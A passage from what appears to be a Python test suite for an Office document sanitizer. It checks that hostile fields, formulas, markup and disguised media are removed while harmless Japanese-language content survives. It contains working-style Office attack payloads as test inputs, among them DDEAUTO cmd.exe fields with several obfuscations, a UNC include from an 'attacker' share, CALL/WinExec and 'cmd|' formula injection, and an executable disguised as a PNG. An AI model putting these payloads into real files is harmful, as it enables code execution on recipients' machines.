"""The OOXML rebuild keeps only what is known good: each class of attack that got through the
old denylist rebuild (fields split over runs, character references, Strict names, formulas
outside cells, parts nothing names, pictures that are not pictures) comes out without it, judged
by oletools (msodde) and by reading the output's XML here; harmless content stays."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
import xlsxwriter
from oletools import msodde
from PIL import Image

from converters.formats.ooxml.fields import field_allowed
from converters.formats.ooxml.formulas import formula_problem
from converters.inspect.outputs import inspect_file
from tests.conftest import run_engine

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
TEXT = "令和8年度 予算要求書 ①㈱ 髙橋"


def base_docx(tmp_path: Path) -> Path:
    path = tmp_path / "base.docx"
    document = docx.Document()
    document.add_paragraph(TEXT)
    document.save(str(path))
    return path


def edit_package(source: Path, target: Path, edits: dict[str, bytes | None]) -> Path:
    """Copy a package replacing (bytes), adding, or removing (None) parts."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name in original.namelist():
            if name in edits:
                data = edits.pop(name)
                if data is not None:
                    out.writestr(name, data)
                continue
            out.writestr(name, original.read(name))
        for name, data in edits.items():
            if data is not None:
                out.writestr(name, data)
    return target


def word_body(tmp_path: Path, body: str, name: str, namespace: str = W) -> Path:
    base = base_docx(tmp_path)
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{namespace}" '
                f'xmlns:r="{REL}"><w:body><w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>{body}</w:body></w:document>')
    return edit_package(base, tmp_path / name, {"word/document.xml": document.encode()})


def sanitize(path: Path, tmp_path: Path) -> tuple[str, set[str], Path | None]:
    report = run_engine(path, tmp_path / f"out-{path.stem}")
    if report.outcome == "blocked":
        return report.outcome, set(), None
    return report.outcome, {f.code for f in report.findings}, tmp_path / f"out-{path.stem}" / report.outputs[0].path


def joined_instructions(path: Path) -> list[str]:
    """Every field instruction of every Word part, joined as Word joins them (run by run)."""
    found: list[str] = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if not name.endswith(".xml"):
                continue
            text = package.read(name).decode("utf-8", "replace")
            found.extend(re.findall(r'instr="([^"]*)"', text))
            found.append("".join(re.findall(r"<w:instrText[^>]*>([^<]*)<", text)))
    return [item for item in found if item]


def field_runs(instruction_pieces: list[str], result: str = "field result") -> str:
    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    runs += "".join(f'<w:r><w:rPr><w:b/></w:rPr><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
                    for piece in instruction_pieces)
    runs += f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r>'
    return f'<w:p>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'


@pytest.mark.parametrize("split", [1, 2, 3, 5, 8, 13])
def test_a_dde_instruction_split_over_runs_is_replaced_by_its_result(tmp_path: Path, split: int) -> None:
    pieces = [DDE[i:i + split] for i in range(0, len(DDE), split)]
    source = word_body(tmp_path, field_runs(pieces), f"split{split}.docx")
    assert "DDEAUTO" in str(msodde.process_file(str(source), msodde.FIELD_FILTER_BLACKLIST))
    outcome, codes, output = sanitize(source, tmp_path)
    assert outcome == "sanitized" and "dde_field_removed" in codes and output is not None
    assert str(msodde.process_file(str(output), msodde.FIELD_FILTER_BLACKLIST)).strip() == ""
    assert not [i for i in joined_instructions(output) if "DDE" in i.upper()]
    paragraphs = [p.text for p in docx.Document(str(output)).paragraphs]
    assert paragraphs == [TEXT, "field result"]


def test_character_references_and_strict_names_do_not_hide_a_field(tmp_path: Path) -> None:
    encoded = "&#x44;&#68;E&#x41;UTO c:\\\\x.exe"
    for name, namespace in (("refs.docx", W), ("strict.docx", W_STRICT)):
        source = word_body(tmp_path, field_runs([encoded]), name, namespace)
        outcome, codes, output = sanitize(source, tmp_path)
        assert outcome == "sanitized" and "dde_field_removed" in codes and output is not None, name
        with zipfile.ZipFile(output) as package:
            body = package.read("word/document.xml").decode()
        assert "instrText" not in body and "field result" in body and "purl.oclc.org" not in body


@pytest.mark.parametrize("instruction", [
    'INCLUDETEXT "\\\\\\\\attacker\\\\share\\\\a.docx"', 'INCLUDEPICTURE "http://example.com/x.png" \\d',
    'DATABASE \\d "C:\\\\x.mdb" \\s "select * from t"', 'HYPERLINK "file:///C:/Windows/System32/calc.exe"',
    'HYPERLINK "\\\\\\\\host\\\\share\\\\x.exe"', 'MACROBUTTON Auto Click', 'LINK Excel.Sheet.8 "C:\\\\a.xls" ""',
    ' ddeauto "c:\\\\x.exe"', "PRINT \\p page \"showpage\"",
])
def test_fields_that_reach_outside_become_their_result(tmp_path: Path, instruction: str) -> None:
    source = word_body(tmp_path, field_runs([instruction]), "reach.docx")
    outcome, codes, output = sanitize(source, tmp_path)
    assert outcome == "sanitized" and codes & {"field_removed", "dde_field_removed"} and output is not None
    assert joined_instructions(output) == []
    assert "field result" in [p.text for p in docx.Document(str(output)).paragraphs]


def test_a_field_type_made_by_a_nested_quote_field_is_not_trusted(tmp_path: Path) -> None:
    nested = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
              '<w:r><w:instrText> cmd "/c calc"</w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    outcome, codes, output = sanitize(word_body(tmp_path, nested, "nested.docx"), tmp_path)
    assert outcome == "sanitized" and "field_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        body = package.read("word/document.xml").decode()
    assert "fldChar" not in body and "instrText" not in body and "shown" in body


def test_simple_fields_and_local_fields(tmp_path: Path) -> None:
    toc = field_runs([" TOC \\o &quot;1-3&quot; "], "目次")
    link = field_runs(["HYPERLINK ", "&quot;https://www.city.example.lg.jp/&quot;"], "市のページ")
    body = ('<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
            '<w:p><w:fldSimple w:instr="&#x49;NCLUDETEXT c:\\a.docx"><w:r><w:t>included</w:t></w:r>'
            f'</w:fldSimple></w:p>{toc}{link}')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "simple.docx"), tmp_path)
    assert outcome == "sanitized" and codes == {"field_removed"} and output is not None
    instructions = joined_instructions(output)
    assert " PAGE " in instructions and not [i for i in instructions if "INCLUDE" in i.upper()]
    assert any("TOC" in i and "https://www.city.example.lg.jp/" in i for i in instructions)
    texts = [p.text for p in docx.Document(str(output)).paragraphs]
    assert texts == [TEXT, "", "included", "目次", "市のページ"]  # python-docx reads no run inside fldSimple


def test_field_allowlist_reads_types_as_word_does() -> None:
    assert field_allowed(" PAGE \\* MERGEFORMAT ") and field_allowed("=SUM(ABOVE)")
    assert field_allowed('HYPERLINK \\l "section2"') and field_allowed('HYPERLINK "mailto:a@example.lg.jp"')
    assert not field_allowed('HYPERLINK \\o "tip" "file:///c:/x"') and not field_allowed('"DDEAUTO" x')
    assert not field_allowed("") and not field_allowed("SOMETHINGNEW x")


@pytest.mark.parametrize("formula", [
    "[1]Sheet1!A1", "'C:\\x\\[a.xlsx]S'!A1", "[1]!Name", "SUM([Book1.xlsx]Sheet1!A1)", "[2]'S 1'!A1",
    "cmd|' /c calc'!A0", "WEBSERVICE(\"http://x/\")",
    "FILTERXML(WEBSERVICE(\"http://x\"),\"//a\")", "RTD(\"prog\",,\"t\")", "_xlfn.IMAGE(\"http://x/a.png\")",
    "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "REGISTER.ID(\"a\",\"b\")", "EXEC(\"calc\")",
    "_xludf.EVIL(1)", "HYPERLINK(\"file:///c:/x\",\"x\")", "HYPERLINK(\"\\\\host\\s\",\"x\")",
    "HYPERLINK(A1,\"x\")", "GET.WORKBOOK(1)", "SUM(1,  RTD (\"a\",,\"b\"))", "_xlfn.STOCKHISTORY(\"MSFT\",1)",
])
def test_formulas_that_reach_outside_are_named(formula: str) -> None:
    assert formula_problem(formula) is not None


@pytest.mark.parametrize("formula", [
    "SUM(A1:A10)*2", "'予算 2026'!B2+Table1[[#This Row],[金額]]", "IF(A1=\"a|b\",\"[1]\",0)",
    "_xlfn.XLOOKUP(A1,B:B,C:C)", "HYPERLINK(\"https://www.city.example.lg.jp/\",\"市\")", "Sheet2!$A$1:$B$2",
    "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)", "[[#This Row],[名前]]&[@値]", "SUM([金額])",
    "VLOOKUP(A2,'Data Sheet'!A:B,2,FALSE)", "SUBTOTAL(109,Table1[金額])",
])
def test_local_formulas_stay(formula: str) -> None:
    assert formula_problem(formula) is None, formula


def xlsx_with_formulas(tmp_path: Path) -> Path:
    path = tmp_path / "book.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("予算")
    sheet.write("A1", TEXT)
    sheet.write_formula("B1", "=1+1", None, 2)
    sheet.write_formula("B2", "=WEBSERVICE(\"http://example.com/\")", None, "cached")
    book.define_name("Outside", "=WEBSERVICE(\"http://example.com/\")")
    book.define_name("Local", "=予算!$A$1")
    sheet.conditional_format("A1:A5", {"type": "formula", "criteria": "=RTD(\"x\",,\"y\")=1",
                                       "format": book.add_format({"bold": True})})
    sheet.conditional_format("B1:B5", {"type": "formula", "criteria": "=$B1>1",
                                       "format": book.add_format({"italic": True})})
    sheet.data_validation("C1", {"validate": "custom", "value": "=CALL(\"k\",\"W\",\"J\",\"c\",0)"})
    sheet.data_validation("C2", {"validate": "list", "source": ["はい", "いいえ"]})
    book.close()
    return path


def test_excel_formulas_in_every_place(tmp_path: Path) -> None:
    outcome, codes, output = sanitize(xlsx_with_formulas(tmp_path), tmp_path)
    assert outcome == "sanitized" and "excel_active_formula_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        everything = " ".join(package.read(n).decode("utf-8", "replace") for n in package.namelist())
    for active in ("WEBSERVICE", "RTD(", "CALL("):
        assert active not in everything
    for kept in ("1+1", "$B1&gt;1", "Local", "はい", "cached"):
        assert kept in everything, kept


def test_formulas_behind_character_references_and_odd_case_types(tmp_path: Path) -> None:
    source = xlsx_with_formulas(tmp_path)
    with zipfile.ZipFile(source) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        types = package.read("[Content_Types].xml").decode()
    sheet = sheet.replace("<f>1+1</f>", "<f>cmd&#124;' /c calc'!A0</f>")
    types = types.replace("spreadsheetml.worksheet+xml", "SpreadsheetML.Worksheet+XML")
    hostile = edit_package(source, tmp_path / "odd.xlsx", {"xl/worksheets/sheet1.xml": sheet.encode(),
                                                           "[Content_Types].xml": types.encode()})
    outcome, codes, output = sanitize(hostile, tmp_path)
    assert outcome == "sanitized" and "excel_external_formula_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("xl/worksheets/sheet1.xml").decode()
    assert "cmd" not in written and "|" not in written and TEXT not in written  # text is in sharedStrings


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def test_parts_nothing_names_and_pictures_that_are_not_pictures(tmp_path: Path) -> None:
    base = base_docx(tmp_path)
    exe = b"MZ" + b"\x00" * 58 + b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode" * 4
    with zipfile.ZipFile(base) as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
        types = package.read("[Content_Types].xml").decode()
    rels = rels.replace("</Relationships>", f'<Relationship Id="rIdX" Type="{REL}/image" Target="media/x.png"/>'
                        f'<Relationship Id="rIdY" Type="{REL}/image" Target="media/y.png"/></Relationships>')
    types = types.replace("</Types>", '<Default Extension="png" ContentType="image/png"/></Types>')
    hostile = edit_package(base, tmp_path / "media.docx", {
        "word/_rels/document.xml.rels": rels.encode(), "[Content_Types].xml": types.encode(),
        "word/media/x.png": exe, "word/media/y.png": png_bytes() + b"<script>alert(1)</script>",
        "word/media/unnamed.png": exe, "word/payload.html": b"<html><script>x()</script></html>"})
    outcome, codes, output = sanitize(hostile, tmp_path)
    assert outcome == "sanitized" and {"media_removed", "unreferenced_part_removed"} <= codes
    assert output is not None
    with zipfile.ZipFile(output) as package:
        names = set(package.namelist())
        assert "word/media/x.png" not in names and "word/media/unnamed.png" not in names
        assert "word/payload.html" not in names
        picture = package.read("word/media/y.png")
        assert b"script" not in picture and Image.open(io.BytesIO(picture)).size == (8, 8)
        assert b"rIdX" not in package.read("word/_rels/document.xml.rels")


def test_names_that_differ_only_in_case_are_refused(tmp_path: Path) -> None:
    base = base_docx(tmp_path)
    with zipfile.ZipFile(base) as package:
        document = package.read("word/document.xml")
    hostile = edit_package(base, tmp_path / "twice.docx", {"word/Document.xml": document})
    report = run_engine(hostile, tmp_path / "twice")
    assert (report.outcome, report.reason_code) == ("blocked", "corrupt_file")


def test_unknown_markup_and_link_attributes_are_left_out(tmp_path: Path) -> None:
    body = ('<w:p xmlns:evil="urn:x-evil"><evil:script>run()</evil:script><w:r><w:t>残す</w:t></w:r></w:p>'
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" o:href="file://\\\\host\\share\\a.png" '
            'style="width:1pt"/></w:pict></w:r></w:p><!-- note --><?mso-application x?>')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "markup.docx"), tmp_path)
    assert outcome == "sanitized" and {"unknown_markup_removed", "external_link_removed"} <= codes
    assert output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "evil" not in written and "host" not in written and "残す" in written and "note" not in written


def test_a_charts_workbook_is_rebuilt_not_dropped(tmp_path: Path) -> None:
    from pptx import Presentation
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Inches

    presentation = Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[5])
    slide.shapes.title.text = "予算の推移"
    data = CategoryChartData()
    data.categories = ["令和7年度", "令和8年度"]
    data.add_series("歳出", (120, 135))
    slide.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Inches(1), Inches(1), Inches(4), Inches(3), data)
    source = tmp_path / "chart.pptx"
    presentation.save(str(source))
    with zipfile.ZipFile(source) as package:
        [embedded] = [n for n in package.namelist() if n.startswith("ppt/embeddings/")]
        workbook = package.read(embedded)
    with zipfile.ZipFile(io.BytesIO(workbook)) as inner:
        sheet = inner.read("xl/worksheets/sheet1.xml").decode()
    hostile_sheet = sheet.replace("</sheetData>", '<row r="9"><c r="A9"><f>WEBSERVICE("http://x/")</f></c></row>'
                                  "</sheetData>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as inner, zipfile.ZipFile(buffer, "w") as out:
        for name in inner.namelist():
            out.writestr(name, hostile_sheet if name == "xl/worksheets/sheet1.xml" else inner.read(name))
    hostile = edit_package(source, tmp_path / "hostile-chart.pptx", {embedded: buffer.getvalue()})
    outcome, codes, output = sanitize(hostile, tmp_path)
    assert outcome == "sanitized" and codes == {"excel_active_formula_removed"} and output is not None
    chart = Presentation(str(output)).slides[0].shapes[1].chart
    assert list(chart.plots[0].categories) == ["令和7年度", "令和8年度"]
    with zipfile.ZipFile(output) as package, zipfile.ZipFile(io.BytesIO(package.read(embedded))) as inner:
        assert "WEBSERVICE" not in inner.read("xl/worksheets/sheet1.xml").decode()


def test_a_field_split_across_markup_compatibility_branches_is_not_trusted(tmp_path: Path) -> None:
    """Word reads the Choice (D + DEAUTO = DDEAUTO); joining both branches reads DATE."""
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    body = (f'<w:p xmlns:mc="{mc}" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml">'
            '<mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>D</w:instrText></w:r></mc:Choice><mc:Fallback><w:r><w:instrText>ATE \\@ x'
            '</w:instrText></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>DEAUTO c:\\\\x.exe'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "branches.docx"), tmp_path)
    assert outcome == "sanitized" and codes & {"field_removed", "dde_field_removed"} and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "instrText" not in written and "DEAUTO" not in written and "shown" in written


def test_shape_macros_thresholds_and_links_into_other_workbooks(tmp_path: Path) -> None:
    path = tmp_path / "shapes.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("予算")
    sheet.write_column("D1", [1, 2, 3])
    sheet.conditional_format("D1:D3", {"type": "2_color_scale", "min_type": "formula",
                                       "min_value": '=RTD("a",,"b")', "max_type": "max"})
    sheet.conditional_format("D1:D3", {"type": "cell", "criteria": ">", "value": 1,
                                       "format": book.add_format({"bold": True})})
    sheet.insert_textbox("F2", "お知らせ")
    sheet.write_url("A3", "internal:'予算'!D1", string="内部リンク")
    book.close()
    with zipfile.ZipFile(path) as package:
        drawing = package.read("xl/drawings/drawing1.xml").decode()
        worksheet = package.read("xl/worksheets/sheet1.xml").decode()
    drawing = drawing.replace('<xdr:sp macro="" textlink="">',
                              '<xdr:sp macro="[0]!CreateDOI" textlink="WEBSERVICE(&quot;x&quot;)">', 1)
    assert "CreateDOI" in drawing
    worksheet = worksheet.replace("location=\"'予算'!D1\"", "location=\"'[1]予算'!D1\"")
    hostile = edit_package(path, tmp_path / "shapes-hostile.xlsx", {
        "xl/drawings/drawing1.xml": drawing.encode(), "xl/worksheets/sheet1.xml": worksheet.encode()})
    outcome, codes, output = sanitize(hostile, tmp_path)
    assert outcome == "sanitized" and output is not None
    assert {"vba_macro_removed", "excel_active_formula_removed", "external_link_removed"} <= codes
    with zipfile.ZipFile(output) as package:
        written = package.read("xl/worksheets/sheet1.xml").decode()
        shapes = package.read("xl/drawings/drawing1.xml").decode()
    assert "RTD" not in written and "[1]" not in written and 'operator="greaterThan"' in written
    assert "macro=" not in shapes and "WEBSERVICE" not in shapes and "お知らせ" in shapes


def test_an_element_in_no_namespace_is_left_out(tmp_path: Path) -> None:
    body = '<w:p><w:r><w:t>残す</w:t></w:r><script xmlns="">run()</script></w:p>'
    outcome, codes, output = sanitize(word_body(tmp_path, body, "nonamespace.docx"), tmp_path)
    assert outcome == "sanitized" and "unknown_markup_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "script" not in written and "残す" in written


def test_instruction_text_in_a_fields_result_is_removed(tmp_path: Path) -> None:
    """Found by fuzzing: 'DDE' as instruction text after the separator, in a Choice branch."""
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    body = (f'<w:p xmlns:mc="{mc}" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml">'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DATE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>2026/1/1</w:t></w:r>'
            '<mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:instrText>DDE</w:instrText></w:r></mc:Choice>'
            '<mc:Fallback><w:r><w:instrText>DATE</w:instrText></w:r></mc:Fallback></mc:AlternateContent>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "stray.docx"), tmp_path)
    assert outcome == "sanitized" and "field_removed" in codes and output is not None
    assert not [i for i in joined_instructions(output) if "DDE" in i]
    assert inspect_file(output, tmp_path).clean


def test_a_part_whose_root_is_not_office_markup_blocks_the_file(tmp_path: Path) -> None:
    """Found by fuzzing: sharedStrings.xml with xmlns="-1" came out with its root unchanged."""
    source = xlsx_with_formulas(tmp_path)
    with zipfile.ZipFile(source) as package:
        strings = package.read("xl/sharedStrings.xml").decode()
    strings = strings.replace('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"', 'xmlns="-1"')
    hostile = edit_package(source, tmp_path / "root.xlsx", {"xl/sharedStrings.xml": strings.encode()})
    report = run_engine(hostile, tmp_path / "root")
    assert (report.outcome, report.reason_code) == ("blocked", "corrupt_file")
    assert "not Office markup" in (report.reason or "")


def test_a_comment_shapes_text_box_keeps_its_div(tmp_path: Path) -> None:
    path = tmp_path / "comment.xlsx"
    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet("予算").write_comment("A1", "確認済み ①")
    book.close()
    outcome, codes, output = sanitize(path, tmp_path)
    assert (outcome, codes) == ("passed", set()) and output is not None


# --- keep known good, element by element (converters/formats/ooxml/element_names.py) -----------

S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"
A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
MC_NS = "http://schemas.openxmlformats.org/markup-compatibility/2006"
OFFICE_FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "office"


def inject(source: Path, target: Path, part: str, markup: str) -> Path:
    """``markup`` placed just before the part's root end tag."""
    with zipfile.ZipFile(source) as package:
        text = package.read(part).decode()
    end = text.rindex("</")
    return edit_package(source, target, {part: (text[:end] + markup + text[end:]).encode()})


def pptx_file(tmp_path: Path) -> Path:
    from pptx import Presentation

    path = tmp_path / "slides.pptx"
    presentation = Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[5])
    slide.shapes.title.text = TEXT
    presentation.save(str(path))
    return path


def xlsx_file(tmp_path: Path) -> Path:
    path = tmp_path / "book.xlsx"
    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet("予算").write("A1", TEXT)
    book.close()
    return path


@pytest.mark.parametrize("kind", ["w", "x", "p", "a"])
def test_an_element_its_namespace_does_not_define_is_dropped_and_reported(tmp_path: Path, kind: str) -> None:
    made_up = "launchPayload"
    if kind == "w":
        source = word_body(tmp_path, f'<w:{made_up}><w:r><w:t>calc.exe</w:t></w:r></w:{made_up}>', "w.docx")
        part = "word/document.xml"
    elif kind == "x":
        source = inject(xlsx_file(tmp_path), tmp_path / "x.xlsx", "xl/worksheets/sheet1.xml",
                        f'<x:{made_up} xmlns:x="{S_NS}">calc.exe</x:{made_up}>')
        part = "xl/worksheets/sheet1.xml"
    else:
        namespace = P_NS if kind == "p" else A_NS
        source = inject(pptx_file(tmp_path), tmp_path / f"{kind}.pptx", "ppt/slides/slide1.xml",
                        f'<{kind}:{made_up} xmlns:{kind}="{namespace}">calc.exe</{kind}:{made_up}>')
        part = "ppt/slides/slide1.xml"
    outcome, codes, output = sanitize(source, tmp_path)
    assert outcome == "sanitized" and "unknown_markup_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read(part).decode()
        everything = b"".join(package.read(name) for name in package.namelist())
    assert made_up not in written and b"calc.exe" not in everything
    assert TEXT in (written if kind != "x" else everything.decode("utf-8", "replace"))
    assert inspect_file(output, tmp_path).clean


def test_an_unknown_element_in_a_strict_part_is_treated_the_same(tmp_path: Path) -> None:
    body = '<w:p><w:autoRun><w:r><w:t>calc.exe</w:t></w:r></w:autoRun><w:r><w:t>残す</w:t></w:r></w:p>'
    outcome, codes, output = sanitize(word_body(tmp_path, body, "strict.docx", W_STRICT), tmp_path)
    assert outcome == "sanitized" and "unknown_markup_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "autoRun" not in written and "calc.exe" not in written and "残す" in written


def test_a_namespace_written_with_character_references_is_read_as_decoded(tmp_path: Path) -> None:
    """xmlns:q="...wordprocessingml/2006/&#x6d;ain" is the WordprocessingML namespace: its made-up
    element goes; a known element whose attribute value hides behind references stays."""
    hidden = W.replace("/main", "/&#x6d;ain")
    body = (f'<q:p xmlns:q="{hidden}"><q:pPr><q:jc q:val="&#x63;enter"/></q:pPr><q:r><q:t>残す</q:t></q:r>'
            '<q:execute><q:r><q:t>calc.exe</q:t></q:r></q:execute></q:p>')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "refs.docx"), tmp_path)
    assert outcome == "sanitized" and "unknown_markup_removed" in codes and output is not None
    document = docx.Document(str(output))
    centred = [p for p in document.paragraphs if p.text == "残す"]
    assert centred and centred[0].alignment is not None and int(centred[0].alignment) == 1  # CENTER
    assert "calc.exe" not in "".join(p.text for p in document.paragraphs)


def test_a_known_element_with_character_references_passes_unchanged(tmp_path: Path) -> None:
    body = '<w:p><w:pPr><w:jc w:val="&#x72;ight"/></w:pPr><w:r><w:t>&#x6b8b;&#x3059;</w:t></w:r></w:p>'
    outcome, codes, output = sanitize(word_body(tmp_path, body, "known.docx"), tmp_path)
    assert (outcome, codes) == ("passed", set()) and output is not None
    paragraph = [p for p in docx.Document(str(output)).paragraphs if p.text == "残す"]
    assert paragraph and paragraph[0].alignment is not None and int(paragraph[0].alignment) == 2  # RIGHT


def test_an_unknown_element_in_a_choice_takes_the_choice_and_leaves_the_fallback(tmp_path: Path) -> None:
    w14 = "http://schemas.microsoft.com/office/word/2010/wordml"
    body = (f'<w:p xmlns:mc="{MC_NS}" xmlns:w14="{w14}"><mc:AlternateContent><mc:Choice Requires="w14">'
            '<w:r><w14:madeUpEffect/><w:t>CHOICE</w:t></w:r></mc:Choice>'
            '<mc:Fallback><w:r><w:t>FALLBACK</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>')
    outcome, codes, output = sanitize(word_body(tmp_path, body, "choice.docx"), tmp_path)
    assert outcome == "sanitized" and "unknown_markup_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "CHOICE" not in written and "madeUpEffect" not in written and "FALLBACK" in written


def test_an_attribute_its_namespace_does_not_define_is_dropped(tmp_path: Path) -> None:
    body = '<w:p w:onOpen="calc.exe"><w:pPr><w:jc w:val="center"/></w:pPr><w:r><w:t>残す</w:t></w:r></w:p>'
    outcome, codes, output = sanitize(word_body(tmp_path, body, "attribute.docx"), tmp_path)
    assert outcome == "sanitized" and "unknown_markup_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        written = package.read("word/document.xml").decode()
    assert "onOpen" not in written and "calc.exe" not in written and 'w:val="center"' in written


def test_a_part_whose_root_its_namespace_does_not_define(tmp_path: Path) -> None:
    """Not the main part: that part stays behind with the relationships to it (a pre-release
    comments part, say); the main part: the file is blocked."""
    source = xlsx_file(tmp_path)
    with zipfile.ZipFile(source) as package:
        styles = package.read("xl/styles.xml").decode()
        workbook = package.read("xl/workbook.xml").decode()
    odd_styles = edit_package(source, tmp_path / "styles.xlsx",
                              {"xl/styles.xml": styles.replace("<styleSheet", "<styleSheetX")
                               .replace("</styleSheet>", "</styleSheetX>").encode()})
    outcome, codes, output = sanitize(odd_styles, tmp_path)
    assert outcome == "sanitized" and "part_removed" in codes and output is not None
    with zipfile.ZipFile(output) as package:
        assert "xl/styles.xml" not in package.namelist()
        assert "styles.xml" not in package.read("xl/_rels/workbook.xml.rels").decode()
        assert "styles.xml" not in package.read("[Content_Types].xml").decode()
    assert inspect_file(output, tmp_path).clean
    odd_main = edit_package(source, tmp_path / "main.xlsx", {"xl/workbook.xml": workbook.replace(
        "<workbook", "<workbookX").replace("</workbook>", "</workbookX>").encode()})
    report = run_engine(odd_main, tmp_path / "main")
    assert (report.outcome, report.reason_code) == ("blocked", "corrupt_file")


COUNTED = {  # what a reader sees: paragraphs, tables, pictures, shapes, cells, slides' text
    "paragraphs": (f"{{{W}}}p", f"{{{A_NS}}}p"), "tables": (f"{{{W}}}tbl", f"{{{A_NS}}}tbl"),
    "pictures": (f"{{{A_NS}}}blip", "{urn:schemas-microsoft-com:vml}imagedata"),
    "shapes": (f"{{{P_NS}}}sp", f"{{{P_NS}}}pic"), "cells": (f"{{{S_NS}}}c",),
}


def counts(path: Path) -> dict[str, int]:
    from lxml import etree

    found = dict.fromkeys(COUNTED, 0)
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith(".xml") and not name.startswith(("customXml/", "docProps/")):
                root = etree.fromstring(package.read(name))
                for what, tags in COUNTED.items():
                    found[what] += sum(1 for _ in root.iter(*tags))
    return found


@pytest.mark.parametrize("name", sorted(p.name for p in OFFICE_FIXTURES.iterdir()
                                        if p.suffix in (".dotx", ".docx", ".ppsx", ".xltx", ".potm", ".dotm")))
def test_real_office_documents_keep_every_paragraph_table_and_picture(tmp_path: Path, name: str) -> None:
    source = OFFICE_FIXTURES / name
    outcome, codes, output = sanitize(source, tmp_path)
    assert outcome in ("passed", "sanitized") and output is not None
    assert "unknown_markup_removed" not in codes and "part_removed" not in codes
    before, after = counts(source), counts(output)
    assert sum(before.values()) > 0 and after == before


def test_a_package_hidden_in_a_vml_shapes_gfxdata_is_not_kept(tmp_path: Path) -> None:
